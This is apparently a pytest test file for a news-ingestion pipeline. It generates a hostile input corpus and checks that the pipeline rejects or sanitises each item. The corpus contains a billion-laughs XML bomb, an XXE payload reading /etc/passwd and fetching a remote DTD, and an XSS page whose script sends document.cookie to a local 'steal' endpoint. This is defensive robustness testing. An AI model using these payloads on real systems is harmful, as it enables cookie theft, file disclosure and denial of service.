"""A hostile corpus, generated here: each input gets a clear per-document error or a clean
result, and nothing else is lost (the good documents beside them are stored)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import select

from sitrep.ingest import IngestError, iter_documents
from sitrep.models import Document, content_id
from sitrep.store import Store
from sitrep.store.schema import documents

GOOD = "Clashes in Idlib\n\nSyrian government forces clashed with HTS near Saraqib on Monday.\n"
GOOD2 = "Raid in Borno\n\nBoko Haram fighters raided a village in Borno state, killing five.\n"
ARABIC = ("اشتباكات في إدلب\n\nاشتبكت القوات الحكومية السورية مع مقاتلي هيئة تحرير الشام قرب "
          "سراقب يوم الاثنين، ما أدى إلى مقتل خمسة مقاتلين.\n\n"
          "\u202eRLO override\u202c and \u200fRLM marks, Hebrew: שלום, mixed English text.\n")
BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY lol "lol">\n'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
              for i in range(1, 10))
    + ']>\n<rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;</title>'
    '<description>x</description></item></channel></rss>\n')
XXE = ('<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
       '<!ENTITY remote SYSTEM "http://127.0.0.1:9/evil.dtd">]>\n'
       '<rss version="2.0"><channel><title>t</title><item><title>&xxe;</title>'
       '<description>&remote;</description></item></channel></rss>\n')
XSS_HTML = """<html><head><title>Attack in Mogadishu</title>
<script>fetch('http://127.0.0.1:9/steal?c=' + document.cookie)</script>
<style>body { background: url(javascript:alert(1)) }</style></head><body>
<article><h1>Attack in Mogadishu</h1>
<p>Al Shabaab fighters attacked a police station in Mogadishu on Friday, killing three
officers, officials said.</p>
<img src="x" onerror="alert('xss')"><svg onload="alert(2)"><script>alert(3)</script></svg>
<a href="javascript:alert(4)">click here</a>
<iframe src="http://127.0.0.1:9/"></iframe>
</article></body></html>"""

# 100k lines: a short article, then a giant list of links (page chrome)
LONG_PAGE = ("<html><head><title>Shelling in Donetsk</title></head><body><article>"
             "<h1>Shelling in Donetsk</h1>\n<p>Russian forces shelled Donetsk on Sunday, killing "
             "two civilians, officials said.</p>\n</article><ul class='topics'>\n"
             + "".join(f'<li><a href="/topics/{i}">Topic {i}</a></li>\n' for i in range(100_000))
             + "</ul></body></html>")
# 100k lines of article text (ingest only: extracting 100k sentences is the extract stage's
# throughput, measured by `sitrep bench`)
LONG_PROSE = ("<html><head><title>Long page</title></head><body><article><h1>Long page</h1>\n"
              + "".join(f"<p>Line {i}: shelling was reported near Donetsk on Sunday.</p>\n"
                        for i in range(100_000))
              + "</article></body></html>")

# what each hostile input must become: an exact error reason, or a clean document
EXPECTED_ERRORS = {
    "01_empty.txt": "empty",
    "02_whitespace.txt": "empty",
    "03_binary.bin": "binary file",
    "04_nul_bytes.txt": "binary file",
    "05_invalid_utf8.txt": "not valid UTF-8 text",
    "07_50mb.txt": "too large (50 MB > 20 MB)",
    "10_billion_laughs.xml": "unsafe XML refused: entity declarations (billion laughs / XXE)",
    "11_xxe.rss": "unsafe XML refused: entity declarations (billion laughs / XXE)",
    "14_broken.jsonl:2": "line 2: not JSON",
    "14_broken.jsonl:3": "line 3: not valid UTF-8 text",
    "15_truncated.atom": None,   # "not well-formed XML (...)": checked by prefix below
}
EXPECTED_DOCS = {"00_good.txt", "06_utf16_bom.txt", "08_100k_lines.html", "09_nested.html",
                 "09b_nested_stray_ends.html", "12_xss.html", "13_arabic_rtl.txt",
                 "14_broken.jsonl:1", "14_broken.jsonl:4", "99_good.txt"}


def build_corpus(d: Path) -> None:
    d.mkdir(parents=True, exist_ok=True)
    (d / "00_good.txt").write_text(GOOD, encoding="utf-8")
    (d / "01_empty.txt").write_bytes(b"")
    (d / "02_whitespace.txt").write_bytes(b" \n\t\r\n   ")
    (d / "03_binary.bin").write_bytes(b"\x89PNG\r\n\x1a\n" + os.urandom(4096))
    (d / "04_nul_bytes.txt").write_bytes(GOOD.encode() + b"\x00\x00evil\x00" + GOOD2.encode())
    (d / "05_invalid_utf8.txt").write_bytes(b"\xc3\x28\xa0\xa1 bad \xff\xfe\xfd" * 200)
    (d / "06_utf16_bom.txt").write_bytes(GOOD.encode("utf-16"))
    with (d / "07_50mb.txt").open("w", encoding="utf-8") as fh:   # real text, 50 MB
        line = "Fighting continued near the town on Monday, residents said. " * 16 + "\n"
        for _ in range(50 * 1024 * 1024 // len(line) + 1):
            fh.write(line)
    (d / "08_100k_lines.html").write_text(LONG_PAGE, encoding="utf-8")
    depth = 100_000
    (d / "09_nested.html").write_text(
        "<html><body>" + "<div>" * depth + "<p>Deep text: clashes in Idlib on Monday.</p>"
        + "</div>" * depth + "</body></html>", encoding="utf-8")
    (d / "09b_nested_stray_ends.html").write_text(
        "<html><body>" + "<div><span>" * (depth // 2)
        + "<p>Deep text with stray end tags: a bomb exploded in Kabul.</p>"
        + "</b></i></em>" * depth + "</body></html>", encoding="utf-8")
    (d / "10_billion_laughs.xml").write_text(BILLION_LAUGHS, encoding="utf-8")
    (d / "11_xxe.rss").write_text(XXE, encoding="utf-8")
    (d / "12_xss.html").write_text(XSS_HTML, encoding="utf-8")
    (d / "13_arabic_rtl.txt").write_text(ARABIC, encoding="utf-8")
    (d / "14_broken.jsonl").write_bytes(
        (json.dumps({"title": "Raid in Borno", "text": GOOD2}) + "\n").encode()
        + b'{"title": "half a record", "text": \n'
        + b'{"text": "bad \xff bytes"}\n'
        + (json.dumps({"text": ARABIC}, ensure_ascii=False) + "\n").encode())
    (d / "15_truncated.atom").write_bytes(
        b'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><entry><title>x')
    (d / "99_good.txt").write_text(GOOD2, encoding="utf-8")


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> Path:
    d = tmp_path_factory.mktemp("hostile")
    build_corpus(d)
    return d


def _name(path: str) -> str:
    return Path(path).name


def test_each_hostile_input_gets_a_reason_or_a_clean_document(corpus: Path, pipeline):
    out = list(iter_documents([str(corpus)]))
    docs = {_name(x.path): x for x in out if isinstance(x, Document)}
    errs = {_name(x.path): x.reason for x in out if isinstance(x, IngestError)}
    assert set(docs) == EXPECTED_DOCS
    assert errs.pop("15_truncated.atom").startswith("not well-formed XML (")
    assert errs == {k: v for k, v in EXPECTED_ERRORS.items() if v is not None}

    assert docs["06_utf16_bom.txt"].body == GOOD.strip()
    assert docs["06_utf16_bom.txt"].id == docs["00_good.txt"].id
    long = docs["08_100k_lines.html"]
    assert long.body == ("Shelling in Donetsk\n\nRussian forces shelled Donetsk on Sunday, "
                         "killing two civilians, officials said.")
    assert len(long.chrome) == 100_000 and long.chrome[-1] == "Topic 99999"
    assert "clashes in Idlib" in docs["09_nested.html"].body
    assert "a bomb exploded in Kabul" in docs["09b_nested_stray_ends.html"].body
    xss = docs["12_xss.html"]
    assert "Al Shabaab fighters attacked a police station" in xss.body
    for bad in ("alert", "fetch(", "cookie", "javascript", "onerror", "<", "background"):
        assert bad not in xss.body, bad
    ar = docs["13_arabic_rtl.txt"]
    assert ar.title == "اشتباكات في إدلب" and "سراقب" in ar.body and "\u202e" in ar.body
    assert ar.id == content_id(ar.body)
    assert docs["14_broken.jsonl:4"].body == ar.body

    # extraction never fails on any of them, and spans stay inside the body
    for d in docs.values():
        for ev in pipeline.run(d):
            for e in ev.evidence:
                assert 0 <= e.start < e.end <= len(d.body)
                assert d.body[e.start:e.end] == e.text


def test_extract_command_on_hostile_folder(corpus: Path, tmp_path: Path):
    db = str(tmp_path / "hostile.db")
    env = {**os.environ, "COLUMNS": "400"}
    p = subprocess.run([sys.executable, "-m", "sitrep.cli", "extract", str(corpus), "--db", db,
                        "-q"], capture_output=True, text=True, env=env, timeout=600)
    assert p.returncode == 1                      # some inputs failed ...
    assert "Traceback" not in p.stderr
    for name, reason in EXPECTED_ERRORS.items():  # ... each with its reason
        assert name in p.stderr
        if reason:
            assert reason.split(" (")[0] in p.stderr
    with Store(db) as s, s.engine.connect() as c:  # ... and nothing else is lost
        stored = {r[0] for r in c.execute(select(documents.c.id))}
    expected = {x.id for x in iter_documents([str(corpus)]) if isinstance(x, Document)}
    assert stored == expected and len(expected) == len(EXPECTED_DOCS) - 3  # 3 same-content


def test_100k_lines_of_article_text(tmp_path: Path):
    p = tmp_path / "prose.html"
    p.write_text(LONG_PROSE, encoding="utf-8")
    [d] = list(iter_documents([str(p)]))
    assert d.body.count("shelling was reported") == 100_000 and "<p>" not in d.body
    assert d.body.startswith("Long page\n\nLine 0: shelling") and d.id == content_id(d.body)
